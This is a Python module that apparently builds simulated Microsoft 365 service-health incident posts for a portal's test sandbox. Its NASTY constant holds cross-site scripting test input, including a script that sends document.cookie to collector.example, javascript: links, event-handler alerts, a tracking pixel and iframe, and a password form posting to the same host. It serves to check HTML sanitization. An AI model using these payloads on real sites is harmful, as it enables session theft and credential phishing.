"""The HTML of the sandbox's posts, worded as Microsoft words its own."""

# ruff: noqa: E501 - a sentence is easier to read and to mend in one line

from datetime import UTC, datetime

from csp_portal.microsoft.sandbox.issues import Moment, sentence_about, stamp
from csp_portal.microsoft.sandbox.texts import Plot

BREAK = "<br/><br/>"
LINK = '<a href="https://learn.microsoft.com/microsoft-365/enterprise/view-service-health" target="_blank">service health</a>'

# Every way in which a post could do harm, in one: what reads it must show the words and none of the rest.
NASTY = (
    '<script>document.location="https://collector.example/?c="+document.cookie</script>'
    '<p onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%">Admins can follow the workaround in '
    '<a href="javascript:alert(document.domain)">this article</a> or in <a href="https://learn.microsoft.com/exchange/">the documentation</a>.</p>'
    '<img src="https://tracker.example/pixel.gif?tenant=1" width="1" height="1" alt=""/>'
    '<img src="x" onerror="alert(2)"/><iframe src="https://tracker.example/frame"></iframe>'
    "<svg><script>alert(3)</script></svg><form action='https://collector.example'><input name='password'/></form>"
)

REGIONS = (
    '<table border="1"><thead><tr><th>Region</th><th>State</th><th>Share of requests that fail</th></tr></thead><tbody>'
    "<tr><td>Asia Pacific</td><td>Recovering</td><td>4.1%</td></tr>"
    "<tr><td>Europe</td><td>Affected</td><td>11.8%</td></tr>"
    "<tr><td>North America</td><td>Not affected</td><td>0.0%</td></tr></tbody></table>"
)

# Fills a heavy tenant's posts to the length of real ones.
DETAIL = (
    "We're reviewing service telemetry such as HTTP Archive format (HAR) captures and the diagnostic logs that affected users provided "
    "in order to isolate the origin of impact and to confirm that our mitigation reaches every affected part of the infrastructure. ",
    "While we're focused on remediation, users who have access to another client may be able to use it as a temporary workaround; "
    "admins can track which of their users are affected in the message trace and in the usage reports of the admin center. ",
    "We've determined that a subset of the infrastructure which processes these requests is performing below acceptable thresholds, "
    "and we're rebalancing traffic to healthy infrastructure while we validate a longer term correction in our internal test environment. ",
    "Our monitoring shows that the correction has saturated the majority of the affected environment, and we're reaching out to some of the "
    "affected organizations to verify that the experience is restored before we declare this event closed. ",
)


def opening(plot: Plot, *, at: float) -> str:
    parts = (
        sentence_about("Title", plot.title),
        sentence_about("User impact", plot.impact),
        sentence_about(
            "Current status",
            "We're investigating a potential issue and checking for impact to your organization. "
            "We'll provide an update within 30 minutes.",
        ),
    )
    return (
        BREAK.join(parts)
        + f"<br/><br/>This quick update is designed to give the latest information. Published {stamp(at)}."
    )


def update(plot: Plot, *, number: int, next_at: float) -> str:
    """One update between the first and the last post; each third one brings a table."""
    parts = [
        sentence_about("Title", plot.title),
        sentence_about("User impact", plot.impact),
        sentence_about("More info", f"The state of all services is on the {LINK} page."),
        sentence_about("Current status", DETAIL[number % len(DETAIL)].strip()),
        sentence_about(
            "Scope of impact", "Impact is specific to some users who are served through the affected infrastructure."
        ),
    ]
    if number % 3 == 1:
        parts.append(REGIONS)
    if number:
        parts.append(sentence_about("Root cause", plot.cause))
    next_update = datetime.fromtimestamp(next_at, UTC).strftime("%A, %B %d, %Y, at %I:%M %p UTC")
    parts.append(sentence_about("Next update by", next_update))
    return BREAK.join(parts)


def closing(plot: Plot, *, began: float, ended: float) -> str:
    steps = (
        "We're reviewing our change procedures to better identify similar problems before they reach users.",
        "We're adding monitoring that would have found this problem earlier.",
    )
    parts = (
        sentence_about("Title", plot.title),
        sentence_about("User impact", plot.impact),
        sentence_about(
            "Final status", "We've applied the correction and confirmed with our telemetry that impact is remediated."
        ),
        sentence_about("Start time", stamp(began)),
        sentence_about("End time", stamp(ended)),
        sentence_about("Root cause", plot.cause),
        sentence_about("Next steps", "<ul>" + "".join(f"<li>{step}</li>" for step in steps) + "</ul>"),
        "This is the final update for the event.",
    )
    return BREAK.join(parts)


def history(plot: Plot, *, began: float, every: float, updates: int, heavy: bool) -> list[Moment]:
    """The posts of an issue from its first to its last; an open one (with a status) has no last."""
    padding = BREAK + "".join(DETAIL + DETAIL[:1]) if heavy else ""
    moments = [Moment(at=began, post=opening(plot, at=began) + padding, post_type="quick")]
    for number in range(updates):
        at = began + every * (number + 1)
        moments.append(Moment(at=at, post=update(plot, number=number, next_at=at + every) + padding))
    ended = began + every * (updates + 1)
    if not plot.status or plot.status == "falsePositive":
        text = closing(plot, began=began, ended=ended) + padding
        moments.append(Moment(at=ended, post=text, status=plot.status or "serviceRestored", closes=True))
        moments.append(Moment(at=ended, settles=True))
    return moments
